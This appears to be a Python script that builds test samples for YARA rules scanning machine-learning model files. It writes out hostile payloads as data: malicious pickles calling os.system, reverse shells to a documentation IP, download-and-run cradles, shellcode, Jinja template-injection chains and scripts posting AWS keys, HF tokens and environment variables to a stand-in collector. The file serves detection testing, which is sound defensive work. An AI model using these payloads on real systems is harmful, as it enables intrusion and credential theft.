"""Positive and negative samples for the rules in rules/yara, built in code, with their manifest.

Every sample declares exactly which rule ids must match it (an empty set for benign samples).
Nothing here is real malware: payload strings only touch a canary file, network indicators use the
documentation ranges 192.0.2.0/24 and 203.0.113.0/24 (plus one published IOC, as inert text), and
no sample is ever unpickled, rendered or executed. Pickles are produced with pickle.dumps of objects
whose __reduce__ names a callable (serialization only) or written opcode by opcode.

    python rules/samples.py --out DIR     # writes DIR/<name> and DIR/manifest.json
"""
from __future__ import annotations

import base64
import gzip
import io
import json
import os
import pickle
import random
import struct
import tarfile
import zipfile
from collections import OrderedDict
from dataclasses import dataclass

CANARY = "/tmp/modelscreen-canary"
CMD = f"touch {CANARY}"
HOST = "192.0.2.10"  # TEST-NET-1, documentation only


@dataclass(frozen=True)
class Sample:
    name: str
    data: bytes
    expect: frozenset[str]

    @property
    def positive(self) -> bool:
        return bool(self.expect)


class _Reduce:
    """Pickles as a call of `fn(*args)`; only ever serialized here."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def _rand_floats(n: int, seed: int) -> bytes:
    rng = random.Random(seed)
    return struct.pack(f"<{n}f", *(rng.gauss(0.0, 0.02) for _ in range(n)))


def _plant(payload: bytes, at: int, total: int, seed: int = 7) -> bytes:
    base = bytearray(_rand_floats(total // 4, seed))
    base[at : at + len(payload)] = payload
    return bytes(base[:total])


def _safetensors(tensors: dict[str, bytes], metadata: dict[str, str] | None = None) -> bytes:
    header: dict = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    off = 0
    for name, raw in tensors.items():
        header[name] = {"dtype": "F32", "shape": [len(raw) // 4], "data_offsets": [off, off + len(raw)]}
        off += len(raw)
    h = json.dumps(header).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + b"".join(tensors.values())


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zi = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            zi.compress_type = compression
            zf.writestr(zi, data)
    return buf.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime = len(data), 1704067200
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def _elf_header() -> bytes:
    # 64-bit little-endian ET_EXEC header for x86-64; no program text follows (inert)
    ident = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)


def _pe_header() -> bytes:
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 7 + b"\x40\x00")
    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x80)
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    dos += b"\x00" * (0x80 - len(dos))
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 0) + b"\x00" * 16


def _macho_header() -> bytes:
    return struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 0, 0, 0, 0)


def _ps_enc(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def _b64(data: bytes | str) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def _tokenizer_config(template: str) -> bytes:
    return json.dumps({
        "add_bos_token": True, "add_eos_token": False, "bos_token": "<s>", "eos_token": "</s>",
        "model_max_length": 32768, "tokenizer_class": "LlamaTokenizer", "chat_template": template,
    }, indent=2).encode()


# --- benign material --------------------------------------------------------------------------------

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3 = (
    "{{- bos_token }}\n{%- if custom_tools is defined %}\n    {%- set tools = custom_tools %}\n{%- endif %}\n"
    "{%- if not tools_in_user_message is defined %}\n    {%- set tools_in_user_message = true %}\n{%- endif %}\n"
    "{%- if not date_string is defined %}\n    {%- set date_string = \"26 Jul 2024\" %}\n{%- endif %}\n"
    "{%- if messages[0]['role'] == 'system' %}\n    {%- set system_message = messages[0]['content']|trim %}\n"
    "    {%- set messages = messages[1:] %}\n{%- else %}\n    {%- set system_message = \"\" %}\n{%- endif %}\n"
    "{{- \"<|start_header_id|>system<|end_header_id|>\\n\\n\" }}\n{{- \"Cutting Knowledge Date: December 2023\\n\" }}\n"
    "{{- \"Today Date: \" + date_string + \"\\n\\n\" }}\n{%- if tools is not none and not tools_in_user_message %}\n"
    "    {%- for t in tools %}\n        {{- t | tojson(indent=4) }}\n        {{- \"\\n\\n\" }}\n    {%- endfor %}\n{%- endif %}\n"
    "{{- system_message }}\n{{- \"<|eot_id|>\" }}\n{%- for message in messages %}\n"
    "    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}\n"
    "        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}\n"
    "    {%- elif 'tool_calls' in message %}\n        {%- if not message.tool_calls|length == 1 %}\n"
    "            {{- raise_exception(\"This model only supports single tool-calls at once!\") }}\n        {%- endif %}\n"
    "        {%- set tool_call = message.tool_calls[0].function %}\n"
    "        {{- '{\"name\": \"' + tool_call.name + '\", ' }}\n        {{- '\"parameters\": ' }}\n"
    "        {{- tool_call.arguments | tojson }}\n        {{- \"}\" }}\n        {{- \"<|eot_id|>\" }}\n    {%- endif %}\n"
    "{%- endfor %}\n{%- if add_generation_prompt %}\n    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}\n{%- endif %}\n"
)
QWEN_TOOLS = (
    "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}\n"
    "{%- for message in messages[::-1] %}\n    {%- set index = (messages|length - 1) - loop.index0 %}\n"
    "    {%- if ns.multi_step_tool and message.role == \"user\" %}\n        {%- set ns.multi_step_tool = false %}\n"
    "        {%- set ns.last_query_index = index %}\n    {%- endif %}\n{%- endfor %}\n"
    "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}{%- endfor %}\n"
)

README = """---
license: apache-2.0
language: [en]
library_name: transformers
---
# tiny-llama-test

A small causal language model for tests. Paper: https://arxiv.org/abs/2307.09288 ;
code: https://github.com/example-org/tiny-llama ; weights: https://huggingface.co/example-org/tiny-llama

```bash
pip install -U transformers accelerate
wget https://example.org/data/eval.tar.gz -O eval.tar.gz && tar xzf eval.tar.gz
python -m vllm.entrypoints.openai.api_server --model example-org/tiny-llama --port 8000
curl http://127.0.0.1:8000/v1/completions -H "Content-Type: application/json" -d '{"prompt": "Hi"}'
# Gradio demo on http://0.0.0.0:7860/
```

```python
import os
from transformers import AutoModelForCausalLM, AutoTokenizer
tok = AutoTokenizer.from_pretrained("example-org/tiny-llama", token=os.environ.get("HF_TOKEN"))
model = AutoModelForCausalLM.from_pretrained("example-org/tiny-llama")

import requests
API_URL = "https://api-inference.example.org/models/example-org/tiny-llama"
headers = {"Authorization": f"Bearer {os.environ['HF_TOKEN']}"}
print(requests.post(API_URL, headers=headers, json={"inputs": "Hello"}).json())
```
See the data card (https://huggingface.co/datasets/example-org/eval) and the evaluation at
https://github.com/EleutherAI/lm-evaluation-harness. Contact: ml-team@example.org
"""

CONFIG = {
    "architectures": ["LlamaForCausalLM"], "attention_bias": False, "bos_token_id": 1, "eos_token_id": 2,
    "hidden_act": "silu", "hidden_size": 2048, "initializer_range": 0.02, "intermediate_size": 5632,
    "max_position_embeddings": 2048, "model_type": "llama", "num_attention_heads": 32,
    "num_hidden_layers": 22, "num_key_value_heads": 4, "rms_norm_eps": 1e-05, "rope_theta": 10000.0,
    "tie_word_embeddings": False, "torch_dtype": "bfloat16", "transformers_version": "4.44.0",
    "use_cache": True, "vocab_size": 32000,
}

KERAS_BENIGN = {
    "module": "keras", "class_name": "Sequential",
    "config": {"name": "sequential", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 784]}},
        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 128, "activation": "relu"},
         "registered_name": None},
        {"module": "keras.layers", "class_name": "Dropout", "config": {"name": "dropout", "rate": 0.2}},
        {"class_name": "TFOpLambda", "config": {"name": "tf.math.multiply", "function": "math.multiply"}},
        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense_1", "units": 10, "activation": "softmax"}},
    ]},
    "compile_config": {"optimizer": "adam", "loss": "sparse_categorical_crossentropy", "metrics": ["accuracy"]},
}


def _tokenizer_json() -> bytes:
    vocab = {"<unk>": 0, "<s>": 1, "</s>": 2}
    rng = random.Random(3)
    letters = "abcdefghijklmnopqrstuvwxyz"
    for i in range(3, 3000):
        vocab["\u2581" * (i % 2) + "".join(rng.choice(letters) for _ in range(rng.randint(1, 8)))] = i
    merges = [f"{a} {b}" for a, b in zip(list(vocab)[3:1500], list(vocab)[1500:3000])]
    return json.dumps({
        "version": "1.0", "truncation": None, "padding": None,
        "added_tokens": [{"id": 0, "content": "<unk>", "single_word": False, "lstrip": False, "rstrip": False,
                          "normalized": False, "special": True}],
        "normalizer": {"type": "Sequence", "normalizers": [{"type": "Prepend", "prepend": "\u2581"},
                                                           {"type": "Replace", "pattern": {"String": " "}, "content": "\u2581"}]},
        "pre_tokenizer": None, "decoder": {"type": "ByteFallback"},
        "model": {"type": "BPE", "dropout": None, "unk_token": "<unk>", "byte_fallback": True, "vocab": vocab, "merges": merges},
    }, ensure_ascii=False).encode()


def _legacy_torch() -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    state = pickle.dumps(OrderedDict([("fc.weight", [0.1, 0.2]), ("fc.bias", [0.0])]), protocol=2)
    keys = pickle.dumps(["0", "1"], protocol=2)
    storage = struct.pack("<q", 256) + _rand_floats(256, 11)
    return magic + proto + sysinfo + state + keys + storage


def _gguf_like() -> bytes:
    def s(v: str) -> bytes:
        b = v.encode()
        return struct.pack("<Q", len(b)) + b

    kv = [("general.architecture", "llama"), ("general.name", "tiny-llama"),
          ("tokenizer.ggml.model", "llama"), ("tokenizer.chat_template", LLAMA3)]
    body = b"".join(s(k) + struct.pack("<I", 8) + s(v) for k, v in kv)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv)) + body + b"\x00" * (-len(body) % 32) + _rand_floats(2048, 5)


def _benign_numpy_pickles() -> list[tuple[str, bytes]]:
    try:
        import numpy as np
    except ImportError:  # numpy is a dev extra; without it these two samples are skipped
        return []
    rng = np.random.default_rng(0)
    arrs = {"embed.weight": rng.standard_normal((64, 16)).astype("float32"), "head.bias": np.zeros(16, "float32")}
    return [
        ("benign_numpy_state_dict_p2.pkl", pickle.dumps(arrs, protocol=2)),
        ("benign_numpy_array_p4.pkl", pickle.dumps(rng.standard_normal(256), protocol=4)),
        ("benign_numpy_array_p5.pkl", pickle.dumps([rng.integers(0, 100, 50), "label"], protocol=5)),
    ]


# --- the samples --------------------------------------------------------------------------------------


def build_samples() -> list[Sample]:
    out: list[Sample] = []

    def add(name: str, data: bytes | str, *ids: str) -> None:
        out.append(Sample(name, data.encode() if isinstance(data, str) else data, frozenset(ids)))

    # pickle ---------------------------------------------------------------------------------------
    for proto in range(6):
        first = {"MSY-HUB-002"} if proto >= 2 else set()
        add(f"pickle_os_system_first_p{proto}.pkl", pickle.dumps(_Reduce(os.system, CMD), protocol=proto),
            "MSY-PKL-001", *first)
        state = {"model.weight": [0.1, 0.2, 0.3], "hook": _Reduce(os.system, CMD)}
        add(f"pickle_os_system_in_state_p{proto}.pkl", pickle.dumps(state, protocol=proto), "MSY-PKL-001")
    add("pickle_nt_system_global.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01cnt\nsystem\nq\x02X\x1d\x00\x00\x00"
        + CMD.encode() + b"q\x03\x85q\x04Rq\x05s.", "MSY-PKL-001")
    add("pickle_os_popen_binunicode_stack.pkl", b"\x80\x04]\x94(X\x02\x00\x00\x00os\x94X\x05\x00\x00\x00popen\x94\x93\x94"
        b"\x8c\x1d" + CMD.encode() + b"\x94\x85\x94R\x94e.", "MSY-PKL-001")
    add("pickle_posix_system_unicode_stack_p0.pkl", b"(lp0\nVposix\np1\nVsystem\np2\n\x93p3\n(V" + CMD.encode()
        + b"\np4\ntp5\nRp6\na.", "MSY-PKL-001")
    add("pickle_builtins_eval.pkl", pickle.dumps({"x": _Reduce(eval, "print('canary')")}, protocol=4), "MSY-PKL-002")
    add("pickle_builtins_exec_p2_first.pkl", pickle.dumps(_Reduce(exec, "open('/tmp/modelscreen-canary','w')"), protocol=2),
        "MSY-PKL-002", "MSY-HUB-002")
    import subprocess

    add("pickle_subprocess_popen.pkl", pickle.dumps([_Reduce(subprocess.Popen, ["touch", CANARY])], protocol=3),
        "MSY-PKL-003")
    add("pickle_subprocess_check_output_p4.pkl", pickle.dumps([_Reduce(subprocess.check_output, ["true"])], protocol=4),
        "MSY-PKL-003")
    import runpy

    add("pickle_runpy_run_code.pkl", pickle.dumps([_Reduce(runpy._run_code, "x = 1", {})], protocol=4), "MSY-PKL-004")
    import socket

    add("pickle_socket_create_connection.pkl", pickle.dumps([_Reduce(socket.create_connection, (HOST, 4444))], protocol=2),
        "MSY-PKL-005")
    add("pickle_pty_spawn.pkl", b"\x80\x02]q\x00cpty\nspawn\nq\x01X\x07\x00\x00\x00/bin/shq\x02\x85q\x03Rq\x04a.",
        "MSY-PKL-005")
    import webbrowser

    add("pickle_webbrowser_open.pkl", pickle.dumps([_Reduce(webbrowser.open, "https://example.org/")], protocol=4),
        "MSY-PKL-006")
    add("pickle_torch_load_from_bytes.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01ctorch.storage\n_load_from_bytes\nq\x02"
        b"C\x04PK\x03\x04q\x03\x85q\x04Rq\x05s.", "MSY-PKL-007")
    add("pickle_torch_load_from_bytes_stack.pkl", b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00]\x94\x8c\rtorch.storage\x94"
        b"\x8c\x10_load_from_bytes\x94\x93\x94C\x02ab\x94\x85\x94R\x94a.", "MSY-PKL-007")
    import marshal

    add("pickle_marshal_loads.pkl", pickle.dumps([_Reduce(marshal.loads, b"\xe3\x00")], protocol=2), "MSY-PKL-008")
    import importlib

    add("pickle_importlib_import_module.pkl", pickle.dumps([_Reduce(importlib.import_module, "os")], protocol=4),
        "MSY-PKL-009")
    add("pickle_pkgutil_resolve_name.pkl", b"\x80\x02]q\x00cpkgutil\nresolve_name\nq\x01X\t\x00\x00\x00os:systemq\x02"
        b"\x85q\x03Rq\x04a.", "MSY-PKL-009")
    import urllib.request

    add("pickle_urllib_urlopen.pkl", pickle.dumps([_Reduce(urllib.request.urlopen, "https://example.org/x")], protocol=4),
        "MSY-PKL-010")
    import ctypes

    add("pickle_ctypes_cdll.pkl", pickle.dumps([_Reduce(ctypes.CDLL, "libc.so.6")], protocol=2), "MSY-PKL-011")
    add("pickle_getattr_eval.pkl", b"\x80\x02]q\x00c__builtin__\ngetattr\nq\x01(cbuiltins\n__dict__\nX\x04\x00\x00\x00evalq\x02"
        b"tRq\x03a.", "MSY-PKL-012")
    add("pickle_getattr_system_stack.pkl", b"\x80\x04]\x94\x8c\x08builtins\x94\x8c\x07getattr\x94\x93\x94\x8c\x02os\x94"
        b"\x8c\x06system\x94\x86\x94R\x94a.", "MSY-PKL-012")

    # shell ----------------------------------------------------------------------------------------
    add("shell_bash_dev_tcp.sh", f"#!/bin/bash\nbash -i >& /dev/tcp/{HOST}/4444 0>&1\n", "MSY-SHL-001")
    add("shell_bash_fd_exec.sh", f"exec 5<>/dev/tcp/{HOST}/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n",
        "MSY-SHL-001")
    add("pickle_os_system_reverse_shell.pkl",
        pickle.dumps(_Reduce(os.system, f"bash -c 'bash -i >& /dev/tcp/{HOST}/4444 0>&1'"), protocol=2),
        "MSY-PKL-001", "MSY-SHL-001", "MSY-HUB-002")
    add("shell_netcat_exec.txt", f"nc -e /bin/sh {HOST} 4444\nncat {HOST} 4444 --exec cmd.exe\n", "MSY-SHL-002")
    add("shell_python_pty.py",
        f"python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{HOST}\",4444));"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn(\"/bin/sh\")'\n", "MSY-SHL-003")
    add("shell_mkfifo.sh", f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {HOST} 4444 >/tmp/f\n", "MSY-SHL-004")
    add("shell_curl_pipe_sh.sh", f"curl -fsSL http://{HOST}/stage2.sh | sh\n", "MSY-SHL-005", "MSY-META-001")
    add("shell_wget_pipe_bash.txt", "wget -qO- https://downloads.example.net/setup.sh | sudo bash\n", "MSY-SHL-005")
    add("shell_powershell_enc.txt", f"powershell.exe -NoP -W Hidden -enc {_ps_enc('Write-Output canary > $env:TEMP/c.txt')}\n",
        "MSY-SHL-006")
    add("shell_powershell_cradle.ps1", f"IEX (New-Object Net.WebClient).DownloadString('http://{HOST}/a.ps1')\n",
        "MSY-SHL-007", "MSY-META-001")
    add("shell_powershell_iwr_iex.ps1", "iwr -UseBasicParsing https://downloads.example.net/a.ps1 | iex\n", "MSY-SHL-007")
    add("shell_certutil.bat", f"certutil.exe -urlcache -split -f http://{HOST}/a.exe %TEMP%\\a.exe\n",
        "MSY-SHL-008", "MSY-META-001")
    add("shell_perl_socket.txt", f"perl -e 'use Socket;$i=\"{HOST}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));'\n",
        "MSY-SHL-009")
    add("shell_socat.txt", f"socat tcp-connect:{HOST}:4444 exec:/bin/sh,pty,stderr,setsid\n", "MSY-SHL-009")

    # executables ----------------------------------------------------------------------------------
    add("tensor_with_elf.bin", _plant(_elf_header(), 4096, 65536), "MSY-EXE-001")
    add("tensor_with_pe.bin", _plant(_pe_header(), 8192, 65536), "MSY-EXE-002")
    add("tensor_with_macho.bin", _plant(_macho_header(), 12288, 65536), "MSY-EXE-003")
    shellcode = bytes.fromhex("4831d24831f648bb2f62696e2f2f736853545fb03b0f05")  # execve("/bin//sh"), never run
    add("tensor_with_shellcode.bin", _plant(shellcode, 20000, 65536), "MSY-EXE-004")
    add("safetensors_with_elf.safetensors", _safetensors({"w": _plant(_elf_header(), 1024, 8192)}), "MSY-EXE-001")

    # smuggling ------------------------------------------------------------------------------------
    inner_zip = _zip({"payload/readme.txt": b"nothing to see\n"})
    add("safetensors_with_zip.safetensors", _safetensors({"w": _plant(inner_zip, 2048, 16384)}), "MSY-SMG-001")
    add("tensor_with_pickle_p2.bin", _plant(pickle.dumps(_Reduce(os.system, CMD), protocol=2), 4000, 32768),
        "MSY-SMG-002", "MSY-PKL-001")
    add("tensor_with_pickle_p4.bin", _plant(pickle.dumps(OrderedDict(a=1), protocol=4), 4000, 32768), "MSY-SMG-002")
    add("tensor_with_7z.bin", _plant(b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24, 3000, 32768),
        "MSY-SMG-003")
    add("tensor_with_gzip.bin", _plant(gzip.compress(b"payload " * 20, mtime=0), 5000, 32768), "MSY-SMG-004")

    # encoded --------------------------------------------------------------------------------------
    py = f"import os\nos.system('{CMD}')\nprint('done')\n"
    add("metadata_b64_python.json", json.dumps({"format": "pt", "note": _b64(py)}), "MSY-ENC-001")
    add("metadata_b64_exec.json", json.dumps({"blob": _b64(f"exec(compile(open('{CANARY}').read(), 'x', 'exec'))")}),
        "MSY-ENC-001")
    add("metadata_b64_shell.json", json.dumps({"x": _b64(f"/bin/sh -i >& /dev/tcp/{HOST}/4444 0>&1")}), "MSY-ENC-002")
    add("metadata_b64_powershell.json", json.dumps({"x": _ps_enc("IEX (New-Object Net.WebClient).DownloadString('https://downloads.example.net/a')")}),
        "MSY-ENC-002")
    add("metadata_b64_ps_tcpclient.json", json.dumps({"x": _ps_enc(f"System.Net.Sockets.TCPClient('{HOST}',4444)")}),
        "MSY-ENC-002")
    add("metadata_hex_elf.json", json.dumps({"blob": (_elf_header() + b"\x00" * 32).hex()}), "MSY-ENC-003")
    add("metadata_hex_pe.json", json.dumps({"blob": _pe_header()[:64].hex().upper()}), "MSY-ENC-003")
    add("metadata_b64_elf.json", json.dumps({"blob": _b64(_elf_header() + b"\x00" * 32)}), "MSY-ENC-004")
    add("metadata_b64_pe.json", json.dumps({"blob": _b64(_pe_header())}), "MSY-ENC-004")
    add("code_exec_b64decode.py", "import base64\nexec(base64.b64decode('cHJpbnQoImNhbmFyeSIp'))\n", "MSY-ENC-005")
    add("code_exec_import_zlib.py", "exec(__import__('zlib').decompress(b'x\\x9c+\\xca\\xcc+\\x01\\x00'))\n", "MSY-ENC-005")
    add("metadata_b64_pickle.json", json.dumps({"state": _b64(pickle.dumps(_Reduce(os.system, CMD), protocol=2))}),
        "MSY-ENC-006")
    add("metadata_b64_pickle_p4.json", json.dumps({"state": _b64(pickle.dumps(_Reduce(os.system, CMD), protocol=4))}),
        "MSY-ENC-006")

    # metadata -------------------------------------------------------------------------------------
    add("card_raw_ip.md", "Weights mirror: http://203.0.113.7:8080/model.bin\n", "MSY-META-001")
    add("card_ngrok.json", json.dumps({"callback": "https://a1b2-203-0-113-7.ngrok-free.app/hook"}), "MSY-META-002")
    add("card_pastebin.txt", "next stage: https://pastebin.com/raw/AbCd1234\n", "MSY-META-003")
    add("card_discord.json", json.dumps({"hook": "https://discord.com/api/webhooks/123456789012345678/"
                                         + "A" * 34 + "b" * 34}), "MSY-META-004")
    add("card_telegram.json", json.dumps({"t": "https://api.telegram.org/bot123456789:AAHfakeTokenFakeTokenFakeToken12345/sendMessage"}),
        "MSY-META-005")
    add("card_duckdns.txt", "server = modelscreen-test.duckdns.org:4444\n", "MSY-META-006")

    # template -------------------------------------------------------------------------------------
    add("tpl_globals.json", _tokenizer_config("{{ self.__init__.__globals__.__builtins__ }}" + CHATML), "MSY-TPL-001")
    add("tpl_cve_2024_34359.json", _tokenizer_config(
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
        "{{x()._module.__builtins__['__import__']('os').popen(\"" + CMD + "\")}}{%endif%}{% endfor %}"),
        "MSY-TPL-001", "MSY-TPL-005")
    add("tpl_cycler.jinja", "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}",
        "MSY-TPL-001", "MSY-TPL-002", "MSY-TPL-005")
    add("tpl_lipsum.gguf", _gguf_like().replace(b"general.name", b"general.nam_") +
        b"{{ lipsum.__globals__['os'].popen('" + CMD.encode() + b"') }}", "MSY-TPL-001", "MSY-TPL-002", "MSY-TPL-005")
    add("tpl_attr_escape.jinja", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "MSY-TPL-003")
    add("tpl_attr_escape.json", _tokenizer_config("{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"), "MSY-TPL-003")
    add("tpl_set_dunder.jinja", "{% set g = self.__dict__ %}{{ g }}", "MSY-TPL-004")
    add("tpl_os_system.json", _tokenizer_config("{% if messages %}{{ x.os.system('" + CMD + "') }}{% endif %}"), "MSY-TPL-005")

    # keras ----------------------------------------------------------------------------------------
    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {
        "class_name": "__lambda__", "config": {"code": _b64(b"\xe3\x01\x00\x00\x00\x00\x00\x00\x00" + b"\x00" * 24),
                                               "defaults": None, "closure": None}}}}
    add("keras_lambda_marshal.json", json.dumps({"class_name": "Sequential", "config": {"layers": [lam]}}),
        "MSY-KRS-001", "MSY-KRS-002")
    add("keras2_lambda_marshal.json", json.dumps({"class_name": "Lambda", "config": {
        "function": [_b64(b"\xe3\x00\x00\x00\x00" + b"\x00" * 30), None, None], "function_type": "lambda"}}),
        "MSY-KRS-001", "MSY-KRS-002")
    add("keras_lambda_named.json", json.dumps({"class_name": "Lambda", "config": {"function": "my_pkg.ops.scale",
                                                                                 "function_type": "raw"}}), "MSY-KRS-001")
    add("keras_unsafe_module.json", json.dumps({"module": "builtins", "class_name": "function", "config": "exec",
                                               "registered_name": "function"}), "MSY-KRS-003")
    node = b"\x0a\x05write\x12\x09WriteFile\x1a\x08filename\x1a\x08contents"
    add("saved_model_writefile.pb", b"\x0a\x02\x08\x01" + node, "MSY-KRS-004")

    # yaml -----------------------------------------------------------------------------------------
    add("config_apply.yaml", f"model: tiny\ninit: !!python/object/apply:os.system [\"{CMD}\"]\n", "MSY-YML-001")
    add("config_apply_long.yaml", "x: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [[\"true\"]]\n", "MSY-YML-001")
    add("config_name.yaml", "loss: !!python/name:torch.nn.functional.cross_entropy ''\n", "MSY-YML-002")
    add("config_module.yaml", "m: !!python/module:os\n", "MSY-YML-002")
    add("config_object.yaml", "cfg: !!python/object:__main__.Config {lr: 0.1}\n", "MSY-YML-003")

    # miner ----------------------------------------------------------------------------------------
    wallet = "4A" + "".join(random.Random(9).choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(93))
    add("miner_xmrig_cmd.sh", f"./xmrig -o stratum+tcp://pool.example.net:3333 -u {wallet} -p x --donate-level 1\n",
        "MSY-MIN-001", "MSY-MIN-002", "MSY-MIN-003")
    add("miner_stratum.txt", "url = stratum+ssl://mine.example.org:14433\n", "MSY-MIN-001")
    add("miner_xmrig_config.json", json.dumps({"autosave": True, "cpu": True, "pools": [
        {"url": "pool.example.org:443", "algo": "rx/0", "user": "worker1", "tls": True}], "donate-level": 1,
        "comment": "xmrig"}), "MSY-MIN-002")
    add("miner_wallet.py", f"WALLET = '{wallet}'\n", "MSY-MIN-003")
    add("miner_pool_host.txt", "pool: supportxmr.com:443\n", "MSY-MIN-004")

    # stealer --------------------------------------------------------------------------------------
    add("stealer_aws.py", "import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "requests.post('https://collector.example.net/c', data=creds)\n", "MSY-STL-001")
    add("stealer_two_paths.py", "paths = ['~/.kube/config', '~/.docker/config.json']\n", "MSY-STL-001")
    add("stealer_ssh.sh", "cat ~/.ssh/id_rsa | base64\n", "MSY-STL-002")
    add("stealer_authorized_keys.sh", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB attacker' >> ~/.ssh/authorized_keys\n",
        "MSY-STL-002")
    add("stealer_browser.py", "p = os.path.join(home, 'AppData/Local/Google/Chrome/User Data')\n"
        "key = open(os.path.join(p, 'Local State')).read()\ndb = os.path.join(p, 'Default', 'Login Data')\n", "MSY-STL-003")
    add("stealer_firefox.py", "for f in ('logins.json', 'key4.db'): copy(profile / f)\n", "MSY-STL-003")
    add("stealer_hf_token.py", "import os, requests\n"
        "requests.post('https://collector.example.net/t', json={'t': os.environ.get('HF_TOKEN')})\n", "MSY-STL-004")
    add("stealer_hf_token_file.py", "import pathlib, urllib.request as u\n"
        "t = (pathlib.Path.home() / '.cache/huggingface/token').read_text()\n"
        "u.urlopen('https://collector.example.net/t', data=t.encode())\n", "MSY-STL-004")
    add("stealer_env_dump.py", "import os, requests\nrequests.post('https://collector.example.net/e', json=dict(os.environ))\n",
        "MSY-STL-005")
    add("stealer_aws_secret.py", "import os, urllib.request as u\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "u.urlopen('https://collector.example.net/k?' + k)\n", "MSY-STL-005")

    # hub IOCs -------------------------------------------------------------------------------------
    add("hub_jfrog_ioc.txt", "# indicator from the JFrog report (inert text)\nRHOST = \"210.117.212.93\"\nRPORT = 4242\n",
        "MSY-HUB-001")
    add("hub_platform_aware_shell.py",
        f"import os, socket, subprocess, platform\ns = socket.socket()\ns.connect((\"{HOST}\", 4444))\n"
        "shell = \"cmd.exe\" if platform.system() == \"Windows\" else \"/bin/sh\"\n"
        "subprocess.call([shell], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n", "MSY-HUB-003")
    # nullifAI layout: payload first, then a stream that breaks (no STOP, garbage opcodes)
    add("hub_nullifai_broken.pkl", b"\x80\x02cposix\nsystem\nq\x00X\x1d\x00\x00\x00" + CMD.encode() + b"q\x01\x85q\x02R"
        b"q\x03\xff\xfe\x00garbage", "MSY-HUB-002", "MSY-PKL-001")

    # benign -----------------------------------------------------------------------------------------
    add("benign_config.json", json.dumps(CONFIG, indent=2))
    add("benign_tokenizer.json", _tokenizer_json())
    add("benign_tokenizer_config_chatml.json", _tokenizer_config(CHATML))
    add("benign_tokenizer_config_llama3.json", _tokenizer_config(LLAMA3))
    add("benign_tokenizer_config_qwen.json", _tokenizer_config(QWEN_TOOLS))
    add("benign_chat_template.jinja", LLAMA3)
    add("benign_README.md", README)
    add("benign_keras_config.json", json.dumps(KERAS_BENIGN))
